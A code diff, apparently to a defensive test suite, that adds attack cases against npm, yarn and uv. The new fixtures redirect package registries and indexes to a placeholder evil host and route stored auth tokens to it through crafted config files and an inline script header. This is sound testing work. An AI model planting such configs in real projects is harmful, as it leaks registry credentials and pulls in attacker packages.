@@ -167,6 +167,14 @@ const npmAttacks: Attack[] = [
     words: ['--userconfig', '../clone/rc', 'install'],
     tools: ['npm'],
   },
+  ...['userconfig', 'globalconfig'].map<Attack>(setting => ({
+    name: `another config that the project's names as its ${setting}`,
+    files: at => ({
+      ...npmrc(() => `@evil:registry=${at.evil}/\n${setting}=./rc\n`)(at),
+      'work/p/rc': `//${at.evilHost}/:_authToken=\${${own(at)}}\n`,
+    }),
+    tools: ['npm'],
+  })),
 ]
 
 const yarnrc =
@@ -311,6 +319,11 @@ const yarnAttacks: Attack[] = [
     words: ['--cwd', '../clone', 'install'],
     tools: ['yarn'],
   },
+  ...['""', '"${NOTHING:-}"', '"${NOTHING-}"'].map<Attack>(value => ({
+    name: `a scope whose own token is ${value}`,
+    files: yarnrc(at => `${scope(at.evil)}    npmAuthToken: ${value}\n    npmAlwaysAuth: true\n`),
+    tools: ['yarn'],
+  })),
 ]
 
 const project = (more: string, dependency = 'evil-x') =>
@@ -427,6 +440,16 @@ const uvAttacks: Attack[] = [
       'work/clone/s.toml': `[[index]]\nname = "a_b"\nurl = "${at.evil}/simple/"\n`,
     }),
     words: ['--config-file', '../clone/s.toml', 'lock'],
+    tools: ['uv'],
+    indexes: ['a-b'],
+  },
+  {
+    name: 'a script without an ending',
+    files: at => ({
+      'work/p/pyproject.toml': project(index('a-b', `${at.guard}/pypi/simple/`)),
+      'work/p/run': `# /// script\n# dependencies = ["evil-x"]\n# [[tool.uv.index]]\n# name = "a_b"\n# url = "${at.evil}/simple/"\n# ///\nimport x\n`,
+    }),
+    words: ['run', '--script', 'run'],
     tools: ['uv'],
     indexes: ['a-b'],
   },
